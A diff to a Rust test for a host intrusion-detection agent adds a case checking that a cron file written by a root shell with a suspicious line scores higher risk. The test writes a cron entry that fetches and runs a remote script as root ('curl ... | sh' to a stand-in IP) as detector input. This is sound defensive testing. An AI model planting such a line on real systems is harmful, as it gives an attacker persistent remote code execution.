@@ -351,6 +351,8 @@ fn writes_below_a_web_server_or_by_a_service_user_are_critical_and_a_root_shell_
     undo.file(&by_server_itself);
     let by_root_shell = PathBuf::from(format!("/etc/cron.d/{t}-root"));
     undo.file(&by_root_shell);
+    let evil = PathBuf::from(format!("/etc/cron.d/{t}-evil"));
+    undo.file(&evil);
 
     let agent = agent(&table);
     let mut app = WebApp::start();
@@ -360,6 +362,11 @@ fn writes_below_a_web_server_or_by_a_service_user_are_critical_and_a_root_shell_
     for row in &rows {
         writers.push(app.ask("sh", &row.command));
     }
+    // A line the cron detector finds suspicious (never run: nothing here runs cron).
+    let evil_pid = sh(&format!(
+        "echo '* * * * * root curl -s http://198.51.100.2/x | sh' > {}",
+        evil.display()
+    ));
     // The app itself writes a cron file, then connects to its C2.
     let app_pid = app.ask("open", &by_server_itself.display().to_string());
     assert_eq!(app_pid, server);
@@ -386,6 +393,28 @@ fn writes_below_a_web_server_or_by_a_service_user_are_critical_and_a_root_shell_
         );
         results.push((row.location, path, "critical"));
     }
+    // The content is a risk term: a root shell's write with a suspicious line scores higher
+    // than its plain twin.
+    let plain = alert_on(&agent, &by_root_shell.display().to_string()).unwrap();
+    let alert = alert_on(&agent, &evil.display().to_string()).expect("the suspicious line");
+    assert_eq!(alert["pid"], evil_pid, "{alert}");
+    assert!(
+        alert["detail"]
+            .as_str()
+            .unwrap()
+            .ends_with("with a suspicious line (see its cron alert)"),
+        "{alert}"
+    );
+    assert!(
+        alert["risk"].as_u64() > plain["risk"].as_u64(),
+        "{alert} vs {plain}"
+    );
+    assert_eq!(alert["severity"], "high", "{alert}");
+    results.push((
+        "cron, root shell, bad line",
+        evil.display().to_string(),
+        "high, risk up",
+    ));
     let alert = alert_on(&agent, &by_server_itself.display().to_string()).expect("the app's own");
     assert_eq!(alert["severity"], "critical", "{alert}");
     assert_eq!(alert["pid"], server, "{alert}");
